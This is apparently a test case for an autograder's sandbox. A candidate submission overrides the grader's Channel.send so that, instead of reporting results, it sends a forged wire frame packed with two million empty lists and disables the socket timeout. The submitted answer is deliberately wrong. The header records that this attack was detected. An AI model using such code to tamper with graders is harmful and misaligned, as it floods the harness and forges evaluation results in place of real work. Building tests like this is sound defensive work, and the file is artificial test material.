# ---
# attack: 'Answers with two million lists without an entry, which are small here and large there.'
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# detected: q1
# ---
# %% before="q1"
import struct

from autograder.candidate.wire import Channel

head = b"\x92\xa4done\xdd" + struct.pack(">I", 2_000_001) + b"\0" + b"\x91\0" * 2_000_000
send = Channel.send


def many(self, header, payload, *rest):
    if type(header).__name__ == "Ran":
        return send(self, header, payload, *rest)
    self.sock.settimeout(None)
    self.sock.sendall(struct.pack("<IQ", len(head), 0) + head)


Channel.send = many

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
